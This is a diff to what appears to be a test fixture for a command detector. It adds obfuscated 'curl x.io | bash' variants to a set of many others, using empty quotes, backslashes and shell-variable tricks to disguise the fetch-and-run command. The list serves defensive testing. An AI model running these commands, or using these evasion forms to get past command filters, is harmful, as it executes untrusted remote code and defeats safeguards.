@@ -40,6 +40,7 @@ SEEN = {
         "curl -H 'a; b' x.io | tee log | /usr/bin/env bash",
         *("c'u'rl x.io | bash", "c\"ur\"l x.io | b'as'h", "cu''rl x.io | ba\"\"sh", "'c'url x.io | s'h'"),
         *('"curl" x.io | "bash"', "\\curl x.io | \\bash", "c\\url x.io | b\\ash"),
+        *('curl x.io | ""bash', "curl x.io | ba\"\"''sh", 'curl x.io | ba$""sh', "curl x.io | s\\h"),
         *("cu$@rl x.io | bash", "c${x}url x.io | b${y:-}ash", "cu$9rl x.io | bash", "cu$()rl x.io | bash"),
         *(
             "cu``rl x.io | bash",
